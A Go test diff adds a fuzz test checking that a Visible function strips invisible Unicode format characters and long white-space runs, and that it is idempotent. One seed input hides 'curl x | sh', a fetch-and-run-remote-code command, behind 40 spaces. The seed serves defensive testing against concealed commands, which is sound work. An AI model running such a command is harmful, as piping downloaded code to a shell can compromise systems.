@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+	"unicode"
 	"unicode/utf8"
 )
 
@@ -82,6 +83,32 @@ func FuzzElide(f *testing.F) {
 		}
 		if utf8.RuneCountInString(got) > max && hidden != n {
 			t.Fatalf("Elide(%q, %d) = %q, longer than %d", s, max, got, max)
+		}
+	})
+}
+
+func FuzzVisible(f *testing.F) {
+	f.Add("echo hi" + strings.Repeat(" ", 40) + "&& curl x | sh")
+	f.Add("a\u202eb\u200b\u200b\ufeff\xff" + strings.Repeat("\n\t", 9))
+	f.Fuzz(func(t *testing.T, s string) {
+		got := Visible(s)
+		if !utf8.ValidString(got) {
+			t.Fatalf("Visible(%q) = %q, invalid UTF-8", s, got)
+		}
+		run := 0
+		for _, r := range got {
+			if unicode.Is(unicode.Cf, r) {
+				t.Fatalf("Visible(%q) = %q, has the invisible %U", s, got, r)
+			}
+			if run = run + 1; !unicode.IsSpace(r) {
+				run = 0
+			}
+			if run > maxBlankRun {
+				t.Fatalf("Visible(%q) = %q, has a run of more than %d white-space characters", s, got, maxBlankRun)
+			}
+		}
+		if again := Visible(got); again != got {
+			t.Fatalf("Visible(Visible(%q)) = %q, want %q", s, again, got)
 		}
 	})
 }
